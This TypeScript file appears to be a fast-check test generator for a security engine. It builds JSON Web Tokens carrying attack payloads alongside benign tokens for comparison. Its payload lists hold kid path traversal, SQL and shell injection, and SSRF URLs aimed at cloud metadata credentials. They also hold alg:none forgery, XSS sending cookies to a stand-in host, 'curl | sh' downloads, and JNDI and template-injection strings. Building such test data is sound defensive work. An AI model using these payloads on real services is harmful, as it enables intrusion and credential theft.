// Attacks carried in JSON Web Tokens: a token of the right shape (base64url header, claims and
// signature) whose JOSE header or claims hold the payload, as services read them before or
// without checking the signature. The header is acted on: `kid` names a key file or a key row,
// `jku`/`x5u` a URL the server fetches, an embedded `jwk` carries its own `kid`, `alg: none` drops
// the signature. Claims (sub, name, email, roles, tenant) reach SQL, templates, shells and pages.
// Every token goes in one of the carriers tokens travel in: `Authorization: Bearer`, a cookie, an
// `access_token`/`id_token` query argument, an OpenID form post, a JSON body, a custom header.
// The benign tokens carry what identity providers put in real ones.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const word = (r: R, n = 6) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const randomB64 = (r: R, n: number) => Array.from({ length: n }, () => B64URL[r(64)]).join("");
const caseMix = (r: R, s: string) => [...s].map((c) => (r(2) ? c.toUpperCase() : c.toLowerCase())).join("");
const seg = (o: unknown) => Buffer.from(JSON.stringify(o)).toString("base64url");

/** A signature as the algorithm makes it: 32 bytes for HS256, 256 for RS256, 64 for ES256. */
function signature(r: R, alg: string): string {
  if (/^none$/i.test(alg)) return "";
  return randomB64(r, alg.startsWith("RS") || alg.startsWith("PS") ? 342 : alg.startsWith("ES") ? 86 : 43);
}

export function token(r: R, header: Record<string, unknown>, claims: Record<string, unknown>): string {
  return `${seg(header)}.${seg(claims)}.${signature(r, String(header.alg ?? "RS256"))}`;
}

const ISSUERS = [
  "https://accounts.google.com",
  "https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/v2.0",
  "https://auth.example.com/realms/production",
  "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Xk3v9QmZp",
  "https://dev-81234.okta.com/oauth2/default",
  "https://example.eu.auth0.com/",
  // in-cluster and development issuers: claims are the issuer's word, not URLs the service fetches
  "http://keycloak.auth.svc.cluster.local:8080/realms/prod",
  "https://kubernetes.default.svc.cluster.local",
  "http://localhost:8080/realms/master",
  "http://127.0.0.1:5556/dex",
];
const NOW = 1764400000;

/** Ordinary claims of an access or ID token. */
function claims(r: R): Record<string, unknown> {
  const iat = NOW - r(3600);
  const c: Record<string, unknown> = { iss: pick(r, ISSUERS), sub: pick(r, [`auth0|${randomB64(r, 24)}`, String(100000000 + r(899999999)), crypto(r)]), aud: pick(r, ["api://orders", "https://api.example.com", "web-client", ["account", "orders-api"]]), iat, exp: iat + 3600 };
  if (r(2)) c.scope = pick(r, ["openid profile email", "openid profile email offline_access", "read:orders write:orders", "api.read"]);
  if (r(2)) c.email = `${pick(r, ["sean.obrien", "m.dangelo", "ana-luisa", word(r)])}@${pick(r, ["example.com", "corp.example.org"])}`;
  if (r(2)) c.name = pick(r, ["Seán O'Brien", "Maria D'Angelo", "José Ñúñez", "李 小龍", "Anne-Marie O'Neil-Smith", "Dr. Jane Q. Public, PhD"]);
  if (r(2)) c.roles = pick(r, [["admin", "user"], ["orders:read"], ["Order.Approve", "Order.Read.All"], []]);
  if (r(3) === 0) c.groups = ["/engineering/backend", "/staff"];
  if (r(3) === 0) c.picture = `https://lh3.googleusercontent.com/a/${randomB64(r, 40)}=s96-c`;
  if (r(3) === 0) c.nonce = randomB64(r, 22);
  if (r(3) === 0) c.sid = crypto(r);
  if (r(3) === 0) c.azp = "orders-web";
  if (r(4) === 0) c["https://example.com/claims/tenant"] = pick(r, ["acme", "globex-eu", "initech"]);
  if (r(4) === 0) c.preferred_username = pick(r, ["o'brien", "jdoe", "m.dangelo@example.com"]);
  if (r(4) === 0) c.realm_access = { roles: ["offline_access", "uma_authorization", "default-roles-production"] };
  if (r(4) === 0) c.amr = ["pwd", "mfa"];
  if (r(5) === 0) c["allowed-origins"] = ["http://localhost:3000", "https://app.example.com"];
  if (r(6) === 0) c["kubernetes.io"] = { namespace: "orders", serviceaccount: { name: "orders-api", uid: crypto(r) }, pod: { name: `orders-api-7d9f8b6c5-${word(r, 5)}`, uid: crypto(r) } };
  return c;
}

function crypto(r: R): string {
  const h = () => Array.from({ length: 4 }, () => "0123456789abcdef"[r(16)]).join("");
  return `${h()}${h()}-${h()}-4${h().slice(1)}-a${h().slice(1)}-${h()}${h()}${h()}`;
}

/** A JOSE header as providers write it: RS256 with a kid, sometimes typ, x5t, or a JWKS URL. */
function header(r: R): Record<string, unknown> {
  const alg = pick(r, ["RS256", "RS256", "ES256", "HS256", "PS256", "EdDSA"]);
  const h: Record<string, unknown> = { alg };
  if (r(4)) h.kid = pick(r, [randomB64(r, 43), crypto(r), `key-${2024 + r(3)}-0${1 + r(9)}`, randomB64(r, 27)]);
  if (r(2)) h.typ = pick(r, ["JWT", "at+jwt", "JWT"]);
  if (r(4) === 0) h.x5t = randomB64(r, 27);
  if (r(4) === 0) h.jku = pick(r, ["https://auth.example.com/.well-known/jwks.json", "https://www.googleapis.com/oauth2/v3/certs", "https://login.microsoftonline.com/common/discovery/v2.0/keys", "https://dev-81234.okta.com/oauth2/default/v1/keys"]);
  return h;
}

// --- what an attacker puts in a token --------------------------------------------------------

/** `kid` as a path to the key file: a file whose contents the attacker knows, or one that leaks. */
const KID_PATHS: ((r: R) => string)[] = [
  (r) => `${"../".repeat(3 + r(5))}dev/null`,
  (r) => `${"../".repeat(2 + r(6))}etc/passwd`,
  (r) => `/proc/self/${pick(r, ["environ", "cmdline", "fd/0"])}`,
  (r) => `keys/${"..\\".repeat(3 + r(3))}windows\\win.ini`,
  (r) => `${"....//".repeat(3 + r(3))}etc/hostname`,
  (r) => `${"../".repeat(4 + r(3))}var/www/html/${pick(r, ["index.html", "static/app.css", "robots.txt"])}`,
];
/** `kid` looked up in a key table. */
const KID_SQL: ((r: R) => string)[] = [
  (r) => `${word(r, 4)}' UNION SELECT '${word(r, 4)}'${pick(r, ["--", "-- -", "#"])}`,
  (r) => `${r(100)}' ${caseMix(r, "or")} '1'='1`,
  (r) => `key1'; ${caseMix(r, "drop table")} ${pick(r, ["keys", "jwt_keys"])};--`,
  (r) => `${r(9)} ${caseMix(r, "union all select")} ${pick(r, ["secret", "'aGVsbG8='", "password"])} ${caseMix(r, "from")} ${pick(r, ["users", "signing_keys"])}`,
  (r) => `x' AND SLEEP(${1 + r(9)})-- `,
];
/** `kid` handed to a shell (key files fetched or converted with a command). */
const KID_SHELL: ((r: R) => string)[] = [
  (r) => `${word(r)}.pem; ${pick(r, ["id", "cat /etc/passwd", "curl http://" + word(r) + ".example/x | sh"])}`,
  (r) => `$(${pick(r, ["whoami", "id", "uname -a"])})`,
  (r) => `\`${pick(r, ["id", "nslookup " + word(r) + ".example"])}\``,
];
/** A key URL the server fetches: metadata, loopback, internal services, local files. */
const KEY_URLS: ((r: R) => string)[] = [
  () => "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  () => "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
  (r) => `http://127.0.0.1:${pick(r, [8080, 2379, 10250, 6379])}/${pick(r, ["jwks.json", "admin", "keys"])}`,
  (r) => `http://localhost/${pick(r, ["server-status", ".well-known/jwks.json", "actuator/env"])}`,
  (r) => `http://[::1]:${pick(r, [80, 8500])}/v1/agent/self`,
  (r) => `file:///${pick(r, ["etc/passwd", "proc/self/environ", "var/run/secrets/kubernetes.io/serviceaccount/token"])}`,
  (r) => `gopher://127.0.0.1:6379/_${pick(r, ["FLUSHALL", "CONFIG%20SET%20dir%20/tmp"])}`,
  (r) => `http://${pick(r, ["0x7f000001", "2130706433", "0177.0.0.1", "169.254.169.254.nip.io"])}/keys`,
];
/** Payloads in ordinary claims (sub, name, email, roles, a tenant claim). */
const CLAIM_PAYLOADS: ((r: R) => string)[] = [
  (r) => `admin' ${caseMix(r, "or")} 1=1-- `,
  (r) => `${r(999)} ${caseMix(r, "union select")} username, password ${caseMix(r, "from")} users--`,
  (r) => `<script>alert(${r(99)})</script>`,
  (r) => `<img src=x onerror=${pick(r, ["alert(1)", "fetch('//" + word(r) + ".example/'+document.cookie)"])}>`,
  (r) => `"><svg/onload=${pick(r, ["alert`1`", "confirm(1)"])}>`,
  (r) => `${"../".repeat(3 + r(4))}etc/passwd`,
  (r) => `; ${pick(r, ["cat /etc/passwd", "id", "wget http://" + word(r) + ".example/s -O- | sh"])}`,
  (r) => `\${jndi:ldap://${word(r)}.example/${word(r, 3)}}`,
  (r) => `{{${pick(r, ["config.__class__.__init__.__globals__['os'].popen('id').read()", "''.__class__.__mro__[1].__subclasses__()"])}}}`,
  (r) => `*)(${pick(r, ["uid", "cn"])}=*))(|(${pick(r, ["uid", "cn"])}=*`,
  (r) => `${word(r)}@example.com' ${caseMix(r, "and")} 1=(${caseMix(r, "select")} 1 ${caseMix(r, "from")} pg_sleep(5))--`,
];
const CLAIM_NAMES = ["sub", "name", "email", "preferred_username", "tenant", "org", "given_name"];

/** The token's header and claims, with the attack put in one of them. */
const SHAPES: ((r: R) => [Record<string, unknown>, Record<string, unknown>])[] = [
  (r) => [{ ...header(r), kid: pick(r, KID_PATHS)(r) }, claims(r)],
  (r) => [{ ...header(r), kid: pick(r, KID_SQL)(r) }, claims(r)],
  (r) => [{ ...header(r), kid: pick(r, KID_SHELL)(r) }, claims(r)],
  (r) => [{ ...header(r), [pick(r, ["jku", "x5u"])]: pick(r, KEY_URLS)(r) }, claims(r)],
  (r) => [{ alg: "RS256", jwk: { kty: "RSA", e: "AQAB", n: randomB64(r, 342), kid: pick(r, [...KID_PATHS, ...KID_SQL])(r) } }, claims(r)],
  (r) => [{ ...header(r), alg: caseMix(r, "none") }, { ...claims(r), [pick(r, ["role", "admin", "sub"])]: pick(r, ["admin", true, "administrator"]) }],
  (r) => [header(r), { ...claims(r), [pick(r, CLAIM_NAMES)]: pick(r, CLAIM_PAYLOADS)(r) }],
  (r) => [header(r), { ...claims(r), roles: ["user", pick(r, CLAIM_PAYLOADS)(r)] }],
  (r) => [header(r), { ...claims(r), profile: { [pick(r, ["bio", "display_name", "company"])]: pick(r, CLAIM_PAYLOADS)(r) } }],
];

export const FAMILIES: Record<string, unknown[]> = { jwt: SHAPES };

// --- where a token travels -------------------------------------------------------------------

export type Carrier = "bearer" | "cookie" | "query" | "form" | "json" | "header";
export const CARRIERS: Carrier[] = ["bearer", "cookie", "query", "form", "json", "header"];

/** A request carrying `jwt` in `c`. */
export function carry(r: R, jwt: string, c: Carrier): Req {
  const host: [string, string] = ["host", "api.svc.local"];
  switch (c) {
    case "bearer": return { path: `/api/${word(r)}/${r(9999)}`, headers: [host, ["authorization", `${pick(r, ["Bearer", "Bearer", "bearer"])} ${jwt}`], ["accept", "application/json"]] };
    case "cookie": return { path: `/${word(r)}`, headers: [host, ["cookie", `${pick(r, ["access_token", "id_token", "jwt", "auth", "__Host-session"])}=${jwt}; theme=dark`]] };
    case "query": return { path: `/${pick(r, ["callback", "ws", "download"])}?${pick(r, ["access_token", "id_token", "token", "jwt"])}=${jwt}&state=${randomB64(r, 16)}` };
    case "form": return { method: "POST", path: "/oidc/callback", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `${pick(r, ["id_token", "access_token", "assertion"])}=${jwt}&state=${randomB64(r, 16)}` };
    case "json": return { method: "POST", path: `/${pick(r, ["auth/refresh", "token/introspect", "session"])}`, headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ [pick(r, ["token", "id_token", "access_token", "credential"])]: jwt, client_id: "orders-web" }) };
    default: return { path: `/${word(r)}`, headers: [host, [pick(r, ["x-auth-token", "x-id-token", "x-jwt-assertion", "x-amzn-oidc-data"]), jwt]] };
  }
}

export interface JwtAttack { family: string; k: number; carrier: Carrier; req: Req }

/** One attack: a shape drawn from a seed, in a carrier drawn from the same seed. */
export const jwtAttack: fc.Arbitrary<JwtAttack> = fc.record({ seed: fc.nat(), k: fc.nat(SHAPES.length - 1), c: fc.nat(CARRIERS.length - 1) }).map(({ seed, k, c }) => {
  const r = rng(seed);
  const [h, p] = SHAPES[k](r);
  return { family: "jwt", k, carrier: CARRIERS[c], req: carry(r, token(r, h, p), CARRIERS[c]) };
});

/** Ordinary tokens, in every carrier (and DPoP proofs, whose header embeds the client's public key). */
export const jwtBenign: fc.Arbitrary<{ req: Req }> = fc.record({ seed: fc.nat(), c: fc.nat(CARRIERS.length - 1) }).map(({ seed, c }) => {
  const r = rng(seed);
  if (r(8) === 0) {
    const proof = token(r, { typ: "dpop+jwt", alg: "ES256", jwk: { kty: "EC", crv: "P-256", x: randomB64(r, 43), y: randomB64(r, 43) } }, { jti: crypto(r), htm: "GET", htu: "https://api.example.com/orders", iat: NOW });
    return { req: { path: "/orders", headers: [["host", "api.example.com"], ["authorization", `DPoP ${token(r, header(r), claims(r))}`], ["dpop", proof]] } };
  }
  return { req: carry(r, token(r, header(r), claims(r)), CARRIERS[c]) };
});
